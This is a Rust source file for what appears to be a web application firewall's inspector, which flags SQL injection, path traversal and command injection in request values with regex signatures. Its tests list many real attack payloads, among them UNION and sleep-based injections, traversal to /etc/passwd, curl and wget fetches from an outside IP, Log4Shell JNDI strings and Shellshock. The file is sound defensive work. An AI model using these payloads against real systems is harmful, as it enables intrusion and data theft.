//! Whether a value is an attack: signatures found by the host over decoded text, then confirmed.
//!
//! A signature asks for the grammar of the language attacked, not for its words: `union select committee` is
//! English, `union select null,` is SQL.

use bartizan_sdk::{Pattern, Patterns};

use crate::decode::{self, BETWEEN};

/// What was found in a value.
#[derive(Clone, Copy, PartialEq, Eq, Default, Debug)]
pub struct Found(u8);

/// The kinds of attack.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub enum Attack {
    /// SQL in a value.
    Sql,
    /// A path that leads out of the site, or to a file that no page links.
    Traversal,
    /// A command for a shell or an interpreter.
    Command,
}

impl Found {
    /// Whether it was found.
    pub fn has(self, attack: Attack) -> bool {
        self.0 & (1 << attack as u8) != 0
    }

    /// Both.
    #[must_use]
    pub fn or(self, other: Found) -> Found {
        Found(self.0 | other.0)
    }

    fn add(&mut self, attack: Attack) {
        self.0 |= 1 << attack as u8;
    }
}

/// Where a value stands in a request.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub enum Place {
    /// A target: path and query.
    Target,
    /// A query or a form without a path.
    Query,
    /// A header, whose own grammar is full of semicolons and brackets.
    Header,
}

/// What a signature shows.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
enum Shows {
    Sql,
    /// To be confirmed: how far up the path leads, or what it leads to.
    Dots,
    /// A file or a scheme that only an attack asks for.
    File,
    Shell,
    /// Code that is run wherever it stands, in headers too.
    Code,
}

const SIGNATURES: &[(Shows, &str)] = &[
    // A second query: columns must follow, or the word is English.
    (
        Shows::Sql,
        r#"\bunion\s*(?:all\s+|distinct\s+)?\(?\s*select\s*(?:[0-9'"(@*\-]|null\b|\w+\s*(?:[,(]|from\b|--|#))"#,
    ),
    // A condition that is always true or false, after a quote or a number.
    (
        Shows::Sql,
        r#"['")]\s*(?:or|and|xor|\|\||&&)\s*\(*\s*(?:not\s+)?['"(]*\w+['")]*\s*(?:=|<>|!=|<|>|\blike\b|\bbetween\b|\bin\s*\(|\bis\s+(?:not\s+)?null)"#,
    ),
    (Shows::Sql, r#"['")]\s*(?:or|and|\|\||&&)\s*['"]{2}\s*(?:=|like)"#),
    (Shows::Sql, r"\b(?:or|and)\s+\(*\s*(?:not\s+)?\d+\s*(?:=|<>|!=|<|>)\s*\(*\s*\d+"),
    // The rest of the query is commented out after a quote.
    (Shows::Sql, r#"\w?['"]\s*\)*\s*(?:;\s*)?(?:--(?:[\s+-]|\x01|$)|#\s*(?:\x01|$))"#),
    // A second statement.
    (
        Shows::Sql,
        r"[;'\x22)]\s*(?:(?:drop|alter|truncate|create)\s+(?:table|database|user|login)\b|insert\s+into\s+\w|delete\s+from\s+\w|update\s+\w+\s+set\b|declare\s+@|exec(?:ute)?\s+(?:master|xp_|sp_|\())",
    ),
    // Time as the answer.
    (
        Shows::Sql,
        r#"\b(?:(?:pg_)?sleep\s*\(\s*['"]?\d|benchmark\s*\(\s*\d+\s*,|waitfor\s+delay\s*['"(]|dbms_(?:pipe\.receive_message|lock\.sleep)\s*\()"#,
    ),
    // The catalogue, and functions that only attacks put in a request.
    (
        Shows::Sql,
        r"\bfrom\s+(?:information_schema|sysobjects|syscolumns|sqlite_master|pg_catalog|mysql\.user|all_tab|dual\b)|\binformation_schema\.(?:tables|columns|schemata)\b|\bxp_cmdshell\b|\b(?:extractvalue|updatexml)\s*\(|\bload_file\s*\(|\binto\s+(?:out|dump)file\b|\bconcat\s*\(\s*(?:0x|char\s*\()|@@version\b",
    ),
    (
        Shows::Sql,
        r"\border\s+by\s+\d+\s*(?:--|#)|\bhaving\s+\d+\s*=\s*\d+|\bselect\s+(?:\*|count\(|@@|version\s*\(|user\s*\(|database\s*\(|\w+(?:\s*,\s*\w+)*\s+from\s+\w+\s+(?:where|limit)\b)",
    ),
    (Shows::Dots, r"\.\.[/\\]"),
    (Shows::Dots, r"\.{4,}[/\\]{2,}"),
    (
        Shows::File,
        r"\x01(?:[^\x01]*[/\\])?etc/(?:passwd|shadow|group|hosts)(?:\x01|$)|\x01file:/{1,3}(?:etc/|proc/|c:|windows)|\x01php://(?:filter|input)|\x01(?:[a-z]:)?[/\\](?:windows|winnt)[/\\](?:win\.ini|system32[/\\])|\x01/proc/self/(?:environ|fd|cmdline)",
    ),
    // A command behind a separator; those whose names are words need an argument that no prose has.
    (
        Shows::Shell,
        r"(?:[;|\n`]|&&?|\$\()\s*(?:/(?:usr/)?(?:local/)?s?bin/)?(?:whoami|uname|wget|curl|nslookup|powershell(?:\.exe)?|certutil|ifconfig|ipconfig|netstat|bash|ncat|cmd(?:\.exe)?\s*/c|busybox|tftp|systeminfo|tasklist)(?:\s+\S|\s*(?:[;|&`)<>\n\x01]|$)|\$\{?ifs)",
    ),
    (
        Shows::Shell,
        r"(?:[;|\n`]|&&?|\$\()\s*(?:/(?:usr/)?(?:local/)?s?bin/)?(?:cat|ls|id|ping|sleep|echo|rm|chmod|nc|sh|python[23]?|perl|php|ruby|type|dir|net|ps|touch|cp|mv|find|kill)(?:\s+(?:-[a-z]|[/.~$\\]|[a-z]:\\|\d+(?:\s*[;|&`)\x01]|\s*$)|\d+\.\d+\.|user\b|localgroup\b)|\$\{?ifs|\s*<\s*/)",
    ),
    (Shows::Shell, r"(?:`|\$\()\s*(?:/(?:usr/)?bin/)?(?:id|ls|pwd|ps|env|hostname|date)\s*[`)]"),
    (Shows::Shell, r#"(?:[0-9.'")]\s*[;|]|\|\||&&|\x01[;|&])\s*(?:id|ls|pwd|dir)\s*(?:[;|&#\x01]|$)"#),
    (Shows::Shell, r"/(?:usr/)?s?bin/(?:ba|z|da|k)?sh\s+-[ci]\b|/dev/tcp/\d"),
    (Shows::Code, r"\(\)\s*\{\s*:?[^}]{0,20};\s*\}\s*;"),
    (Shows::Code, r"\$\{\s*(?:jndi\s*:|(?:lower|upper|env|sys|date)\s*:[^}]{0,40}\}|::-)"),
    (
        Shows::Code,
        r"<\?php|\b(?:system|passthru|shell_exec|popen|proc_open)\s*\(\s*(?:['\x22$]|\\x22)|\bphpinfo\s*\(\s*\)|\ballow_url_include\s*(?:=|%3d)|\bauto_prepend_file\s*=",
    ),
    (Shows::Code, r"\bprocessbuilder\b|java\.lang\.runtime|__import__\s*\(\s*['\x22]os"),
];

/// Files that a path with dots leads to in an attack.
const FILES: &[&str] = &[
    "etc/passwd",
    "etc/shadow",
    "etc/hosts",
    "proc/self",
    "win.ini",
    "boot.ini",
    "system32",
    "web-inf",
    ".ssh",
    ".env",
    ".git/",
    "wp-config",
    "id_rsa",
    ".htpasswd",
    "bin/sh",
    "bin/bash",
    "cmd.exe",
    "web.config",
    "var/log",
];

/// Levels up, in a parameter, that need no known file to be an attack.
const MANY_LEVELS: usize = 3;

/// Judges values.
#[derive(Debug)]
pub struct Inspector(Patterns);

impl Inspector {
    /// Compiles the signatures.
    pub fn new() -> Result<Inspector, String> {
        let patterns: Vec<Pattern> =
            SIGNATURES.iter().map(|(_, expression)| Pattern::Regex((*expression).to_owned())).collect();
        Patterns::compile(&patterns, false).map(Inspector)
    }

    /// Judges values, each once, all in one search.
    pub fn judge(&self, texts: &[&str], place: Place) -> Vec<Found> {
        let decoded: Vec<String> = texts
            .iter()
            .map(|text| match place {
                Place::Target => decode::target(text),
                Place::Query => decode::query(text),
                Place::Header => decode::single(text),
            })
            .collect();
        let hits = self.0.scan_texts(decoded.iter().map(String::as_str));
        let judged =
            decoded.iter().enumerate().map(|(position, text)| confirm(text, hits.of(position), place));
        judged.collect()
    }
}

fn confirm(text: &str, hits: &[u32], place: Place) -> Found {
    let mut found = Found::default();
    for (shows, _) in hits.iter().filter_map(|hit| SIGNATURES.get(*hit as usize)) {
        match shows {
            Shows::Sql => found.add(Attack::Sql),
            Shows::Dots if place != Place::Header && leads_out(text) => found.add(Attack::Traversal),
            Shows::File if place != Place::Header => found.add(Attack::Traversal),
            Shows::Shell if place != Place::Header => found.add(Attack::Command),
            Shows::Code => found.add(Attack::Command),
            _ => {}
        }
    }
    found
}

/// A path that climbs above its root, or that has dots and leads to a known file; a parameter with many levels
/// of dots, or with some and a known file. `/a/b/../c` is a clumsy link.
fn leads_out(text: &str) -> bool {
    let mut parts = text.split(BETWEEN);
    let path = parts.next().unwrap_or_default();
    let known = |part: &str| FILES.iter().any(|file| part.replace('\\', "/").contains(file));
    let dots = |part: &str| part.matches("../").count() + part.matches("..\\").count();
    if climbs(path) || (dots(path) > 0 && known(path)) {
        return true;
    }
    parts.any(|part| dots(part) >= MANY_LEVELS || (dots(part) > 0 && known(part)))
}

fn climbs(path: &str) -> bool {
    let mut depth = 0_i32;
    path.split(['/', '\\']).filter(|step| !step.is_empty() && *step != ".").any(|step| {
        // `....//` is what is left to be `../` by a filter that takes `../` out once.
        depth +=
            if step == ".." || (step.len() >= 4 && step.bytes().all(|byte| byte == b'.')) { -1 } else { 1 };
        depth < 0
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn found(url: &str) -> Vec<Attack> {
        let found = Inspector::new().unwrap().judge(&[url], Place::Target)[0];
        [Attack::Sql, Attack::Traversal, Attack::Command]
            .into_iter()
            .filter(|attack| found.has(*attack))
            .collect()
    }

    #[test]
    fn sql() {
        for url in [
            "/p?id=1+UNION+ALL+SELECT+null,null--",
            "/p?id=-1%20union%20select%201,2,group_concat(table_name)%20from%20information_schema.tables",
            "/p?id=1%2527%2520OR%2520%25271%2527%253D%25271",
            "/p?id=1'/**/oR/**/'1'='1",
            "/p?id=1/*!50000UnIoN*//*!50000SeLeCt*/1,2",
            "/p?user=admin'--",
            "/p?user=admin%27%20%23",
            "/p?id=1;DROP+TABLE+users",
            "/p?id=1'+AND+SLEEP(5)+AND+'a'='a",
            "/p?id=1);WAITFOR+DELAY+'0:0:5'--",
            "/p?id=1+or+1=1",
            "/p?id=1+and+1=2",
            "/p?id=1+order+by+5--",
            "/p?id=%u0027%20or%20%u0027a%u0027=%u0027a",
            "/p?q=x')+or+('x'='x",
            "/p?id=extractvalue(1,concat(0x7e,version()))",
            "/item/1'%20or%20'1'='1",
        ] {
            assert!(found(url).contains(&Attack::Sql), "{url}");
        }
    }

    #[test]
    fn traversal() {
        for url in [
            "/../../../etc/passwd",
            "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
            "/static/%2e%2e%2f%2e%2e%2f%2e%2e%2fwindows/win.ini",
            "/download?file=../../../../etc/passwd",
            "/download?file=..%252f..%252fetc%252fpasswd",
            "/download?file=..%c0%af..%c0%afetc%c0%afpasswd",
            "/download?file=/etc/passwd",
            "/download?file=....//....//etc/passwd",
            "/download?file=..\\..\\windows\\win.ini",
            "/index.php?page=php://filter/convert.base64-encode/resource=config",
            "/index.php?page=file:///etc/hostname",
            "/view?f=../../../../etc/passwd%00.png",
        ] {
            assert!(found(url).contains(&Attack::Traversal), "{url}");
        }
    }

    #[test]
    fn commands() {
        for url in [
            "/ping?ip=127.0.0.1;id",
            "/ping?ip=127.0.0.1%3Bcat%20/etc/passwd",
            "/ping?ip=127.0.0.1|whoami",
            "/ping?ip=127.0.0.1%26%26wget+http://198.51.100.7/x.sh",
            "/ping?ip=`id`",
            "/ping?ip=$(curl%20http://198.51.100.7)",
            "/ping?ip=1%0acat%20/etc/hosts",
            "/ping?ip=;cat${IFS}/etc/passwd",
            "/x?q=${jndi:ldap://198.51.100.7/a}",
            "/x?q=${${lower:j}ndi:ldap://198.51.100.7/a}",
            "/cgi-bin/a?x=();{:;};+/bin/bash+-c+id",
            "/?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input",
            "/x?c=powershell&y=1;powershell+-enc+AAAA",
        ] {
            assert!(found(url).contains(&Attack::Command), "{url}");
        }
    }

    #[test]
    fn harmless_requests_stay_harmless() {
        for url in [
            "/select-a-plan?union=1",
            "/search?q=union+select+committee",
            "/search?q=the+european+union+and+a+select+few",
            "/search?q=rock+and+roll+or+jazz",
            "/search?q=O'Brien+and+sons",
            "/search?q=l'or+et+l'argent",
            "/search?q=it's+5+o'clock+and+i'm+late",
            "/search?q=tom+%26+jerry;+the+cat+is+back",
            "/docs/sql/select.html?from=menu&where=top&order=by",
            "/docs/information_schema.html",
            "/item?id=5&cat=7&type=book&ls&dir=asc&sh=1&echo=on",
            "/item;jsessionid=AB12?sort=name;id",
            "/item?tags=dog;cat&fields=name|id",
            "/a/b/../c/style.css",
            "/page?return=../home",
            "/blog/2024/how-to-drop-table-salt",
            "/etc/passwd-policy.html",
            "/news?title=sleep+(and+why+5+hours+is+too+little)",
            "/p?price=10-20&range=1..5",
            "/calc?e=1%2B1%3D2",
            "/x?callback=jQuery1102_1&_=1700000000",
            "/math?a=3&b=3&eq=a=b",
            "/?utm_source=newsletter&utm_medium=e-mail#top",
            "/u/%E4%B8%AD%E6%96%87/%C3%A9t%C3%A9?q=na%C3%AFve",
        ] {
            assert_eq!(found(url), [], "{url}");
        }
    }

    #[test]
    fn headers_have_semicolons_of_their_own() {
        let inspector = Inspector::new().unwrap();
        let judge = |text: &str| inspector.judge(&[text], Place::Header)[0];
        for agent in [
            "Mozilla/5.0 (Linux; U; Android 4.0.3; id; GT-P5100) AppleWebKit/534.30 (KHTML, like Gecko)",
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/120.0 Safari/537.36",
            "curl/8.5.0",
        ] {
            assert_eq!(judge(agent), Found::default(), "{agent}");
        }
        assert!(judge("() { :;}; /bin/bash -c id").has(Attack::Command));
        assert!(judge("${jndi:ldap://198.51.100.7/a}").has(Attack::Command));
        assert!(judge("Mozilla' or sleep(5)='1").has(Attack::Sql));
    }
}
